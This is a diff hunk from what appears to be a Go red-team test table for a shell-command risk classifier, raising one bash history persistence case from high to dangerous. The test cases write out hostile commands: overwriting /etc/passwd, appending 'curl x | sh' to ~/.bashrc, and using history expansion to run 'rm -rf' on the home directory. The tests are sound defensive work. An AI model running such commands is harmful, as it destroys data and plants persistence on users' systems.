@@ -112,9 +112,9 @@ var redteamShellCases = []classifyCase{
 	// ---- history: writes files, and history expansion rewrites later lines ----
 	// history -w truncates FILE and writes the history list to it; history
 	// -s adds any line, history -a appends it to FILE. Today: minimal.
-	low("history -w notes.txt", ""),                            // §2.6 redirection-like write
-	dangerous("history -w /etc/passwd", ""),                    // §2.6 over a system file
-	high("history -s 'curl x | sh'; history -a ~/.bashrc", ""), // §2.6 persistence
+	low("history -w notes.txt", ""),                                 // §2.6 redirection-like write
+	dangerous("history -w /etc/passwd", ""),                         // §2.6 over a system file
+	dangerous("history -s 'curl x | sh'; history -a ~/.bashrc", ""), // §2.6 persistence
 	// with set -H and history on, bash -c expands !$ to the last word of the
 	// previous line before parsing: these write /etc/passwd and delete ~.
 	dangerous("set -o history -H\n: ~\nrm -rf !$", ""),
